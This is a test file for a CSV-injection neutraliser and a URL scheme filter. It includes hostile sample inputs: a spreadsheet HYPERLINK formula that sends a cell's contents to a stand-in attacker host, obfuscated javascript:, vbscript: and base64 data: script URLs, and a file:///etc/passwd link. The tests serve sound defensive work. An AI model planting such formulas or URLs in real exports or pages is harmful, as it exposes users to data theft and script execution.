import { describe, expect, it } from 'vitest';
import { inertCell } from '../../src/model/exports';
import { isSafeUrl, webSchemes } from '../../src/lib/safe-url';

describe('inertCell: a CSV cell a spreadsheet shows as text, never runs (OWASP CSV injection)', () => {
	it.each([
		['a formula', '=1+1'],
		['a formula calling out', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
		['a leading plus', '+1'],
		['a leading minus with a sum', '-1+2'],
		['a leading @ function', '@SUM(A1)'],
		['a leading tab', '\t=1+1'],
		['a leading carriage return', '\r=1+1'],
	])('prefixes %s with an apostrophe', (_, value) => {
		expect(inertCell(value)).toBe(`'${value}`);
	});

	it.each([
		['ordinary text', 'We listened first.'],
		['a year written as text', '2024'],
		['an e-mail address', 'ana@example.org'],
		['a formula sign inside the text', 'Score = 3 + 4'],
		['an empty string', ''],
	])('leaves %s unchanged', (_, value) => {
		expect(inertCell(value)).toBe(value);
	});
});

describe('isSafeUrl: only allowed schemes become links', () => {
	it.each([
		['an https address', 'https://example.org/report'],
		['an http address', 'http://example.org/'],
		['an address with the scheme in capitals', 'HTTPS://example.org/'],
		["a path from the site's root", '/learnings/listen-first/'],
		['a relative path', '../report.pdf'],
		['a relative path with a colon after a slash', 'notes/10:30.md'],
		['a fragment', '#findings'],
		['a query', '?page=2'],
		['a mailto address', 'mailto:ana@example.org'],
		['a tel number', 'tel:+5215512345678'],
	])('allows %s in a link', (_, url) => {
		expect(isSafeUrl(url)).toBe(true);
	});

	it.each([
		['javascript:', 'javascript:alert(1)'],
		['JAVASCRIPT: in capitals', 'JAVASCRIPT:alert(1)'],
		['javascript: with a tab inside', 'java\tscript:alert(1)'],
		['javascript: with a newline inside', 'java\nscript:alert(1)'],
		['javascript: after a leading space', ' javascript:alert(1)'],
		['javascript: after a NUL character', '\0javascript:alert(1)'],
		['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
		['vbscript:', 'vbscript:msgbox(1)'],
		['file:', 'file:///etc/passwd'],
		['a scheme nobody listed', 'ftp://example.org/'],
	])('refuses %s', (_, url) => {
		expect(isSafeUrl(url)).toBe(false);
	});

	it.each([
		['mailto:', 'mailto:ana@example.org'],
		['tel:', 'tel:+5215512345678'],
		['javascript:', 'javascript:alert(1)'],
	])('refuses %s where only web addresses are allowed (images)', (_, url) => {
		expect(isSafeUrl(url, webSchemes)).toBe(false);
	});

	it.each([
		['an https address', 'https://example.org/map.png'],
		["a path from the site's root", '/images/map.png'],
	])('allows %s where only web addresses are allowed', (_, url) => {
		expect(isSafeUrl(url, webSchemes)).toBe(true);
	});
});
